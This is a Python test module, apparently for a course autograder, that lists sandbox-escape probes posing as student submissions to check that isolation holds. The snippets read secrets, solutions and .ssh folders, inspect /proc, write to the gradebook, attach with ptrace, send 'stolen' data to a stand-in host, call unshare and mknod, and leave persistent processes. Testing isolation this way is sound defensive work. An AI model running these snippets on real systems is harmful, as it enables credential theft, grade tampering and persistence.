"""Answers that reach for the machine: its files, its processes, its network, other submissions.

Each is right if, and only if, it got what it wanted.
"""

from attack import FULL, ISOLATED, Attack, spy, toy

FAILS = {"score": FULL - toy.POINTS["choice"], "stopped_by": ISOLATED}


def escape(name: str, tries: str, source: str, **more) -> Attack:
    return Attack(name, tries, spy(source), **FAILS | more)


ESCAPES = [
    escape("reads the secret", "reads the secret that the hidden seeds come from",
           "return len(open('{secret}').read()) > 10"),
    escape("reads the solution", "reads the solution and the answer bank",
           "return 'SOLUTION' in open('{solution}').read() + open('{bank}').read()"),
    escape("reads the key", "looks for keys and notebooks in all folders it can reach", """
        import os
        for folder, folders, files in os.walk("{course}"):
            if any(name.endswith((".ipynb", ".json", ".db")) for name in files):
                return True
        """),
    escape("reads a neighbour", "reads what another student handed in",
           "return 'def twice' in open('{neighbour}').read()"),
    escape("writes the gradebook", "gives itself points in the gradebook", """
        import sqlite3
        book = sqlite3.connect("{gradebook}")
        book.execute("create table if not exists forged (points)")
        book.execute("drop table forged")
        return True
        """),
    escape("patches the course", "writes into the packages that later submissions import", """
        import os, sys, torch, torchcourse
        for module in (torch, torchcourse, os):
            with open(module.__file__, "a"):
                return True
        """),
    escape("reads the home", "lists home folders, and the sockets and keys in them", """
        import os
        told = {".ssh", ".bashrc", ".bash_history", ".profile", ".gitconfig", ".jupyter", ".config"}
        places = [os.path.expanduser("~"), "/root", "/run/user"]
        places += [f"/home/{name}" for name in os.listdir("/home")]
        return any(os.access(place, os.R_OK) and told & {*os.listdir(place)} for place in places)
        """),
    escape("environment", "looks for variables that tell who started it, and what for", """
        import os, sys
        words = ("NBGRADER", "GRAD", "PYTEST", "JPY", "JUPYTER", "SSH", "PWD")
        told = [name for name in os.environ if any(word in name for word in words)]
        for one in os.listdir("/proc"):
            if one.isdigit() and os.access(f"/proc/{one}/environ", os.R_OK):
                text = open(f"/proc/{one}/environ").read()
                told += [word for word in words if word in text.replace("PWD=/\0", "")]
        return told or "grad" in " ".join(sys.argv)
        """, stopped_by=None),
    escape("reads the grader", "reads command lines and memory of the processes around it", """
        import os
        others = [one for one in os.listdir("/proc") if one.isdigit() and int(one) != os.getpid()]
        for one in others:
            line = open(f"/proc/{one}/cmdline").read()
            if "pytest" in line or "grading" in line or "nbgrader" in line:
                return True
        """),
    escape("open files", "looks for files that its parents left open", """
        import os
        for one in os.listdir("/proc/self/fd"):
            try:
                place = os.readlink(f"/proc/self/fd/{one}")
            except OSError:
                continue
            if place.endswith((".db", ".ipynb", ".json", ".key")) or "{course}" in place:
                return True
        return os.path.exists("/proc/1/root{course}")
        """, stopped_by=None),
    escape("mounts", "looks for places of the course, of homes and of secrets among the mounts", """
        mounts = open("/proc/self/mountinfo").read()
        return any(place in mounts for place in ("{course}", "{secret}", "solutions", "exercises"))
        """, stopped_by=None),
    escape("shared mappings", "looks for memory in which its parents would see what it writes", """
        for line in open("/proc/self/maps"):
            if line.split()[1] in ("rw-s", "rwxs"):
                return True
        """, stopped_by=None),
    escape("debugger", "attaches to its parents as a debugger does", """
        import ctypes, os
        library = ctypes.CDLL(None, use_errno=True)
        PTRACE_SEIZE = 0x4206
        for one in {1, os.getppid(), int("{grader}")} - {0, os.getpid()}:
            if library.ptrace(PTRACE_SEIZE, one, None, None) == 0:
                return True
        """, dangerous=True),
    escape("signals", "sends signals to the grader", """
        import os
        os.kill(int("{grader}"), 0)
        return True
        """),
    escape("network", "connects to a server on this machine, and to one elsewhere", """
        import socket
        for place in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
            try:
                socket.create_connection(place, 0.5).sendall(b"stolen")
                return True
            except OSError:
                pass
        """),
    escape("datagrams", "sends what it knows in the names of a DNS query", """
        import socket
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.settimeout(0.5)
        sender.sendto(b"stolen", ("127.0.0.1", {datagram_port}))
        return True
        """),
    escape("socket file", "connects to a socket in the file system, such as a database's", """
        import socket
        with socket.socket(socket.AF_UNIX) as one:
            one.connect("{socket}")
        return True
        """),
    escape("abstract socket", "connects to a socket that has a name and no place", """
        import socket
        with socket.socket(socket.AF_UNIX) as one:
            one.connect("\\0{abstract}")
        return True
        """),
    escape("becomes root", "asks for the rights of another user, and for other mounts", """
        import ctypes, os
        library = ctypes.CDLL(None)
        child = os.fork()
        if child == 0:
            library.unshare(0x10020000)  # whoever has his own users and mounts may do all there
            os._exit(library.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0)
        return os.waitpid(child, 0)[1] == 0
        """),
    escape("makes a device", "makes the device of the first disk, to read it all", """
        import os, stat
        os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
        return True
        """, dangerous=True),
    escape("leaves a file", "leaves a word for a later submission, wherever it can write", """
        import os
        for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
            try:
                with open(f"{folder}/torchcourse-{token}", "w") as file:
                    file.write("momentum")
            except OSError:
                pass
        return False
        """, stopped_by=None),
    escape("leaves a file, and finds it", "looks for the word that an earlier submission left", """
        import os
        folders = ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"))
        return any(os.path.exists(f"{folder}/torchcourse-{token}") for folder in folders)
        """),
    escape("leaves a process", "leaves a process that has cut all ties to its parents", """
        import ctypes, os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"left-{token}", 0, 0, 0)  # its name in a list
                for one in range(256):
                    try:
                        os.close(one)
                    except OSError:
                        pass
                while True:
                    try:
                        with open("{pulse}", "a") as file:
                            file.write("alive\\n")
                    except OSError:
                        pass
                    time.sleep(0.05)
            os._exit(0)
        time.sleep(0.3)
        return os.path.exists("{pulse}")
        """),
    escape("shared memory", "leaves a word in memory that processes share", """
        import ctypes
        library = ctypes.CDLL(None)
        one = library.shmget({number}, 64, 0)
        if one == -1:
            library.shmget({number}, 64, 0o1666)
            return False
        return True
        """, stopped_by=None),
    escape("shared memory, again", "looks for the word in shared memory", """
        import ctypes
        return ctypes.CDLL(None).shmget({number}, 64, 0) != -1
        """),
]  # fmt: skip
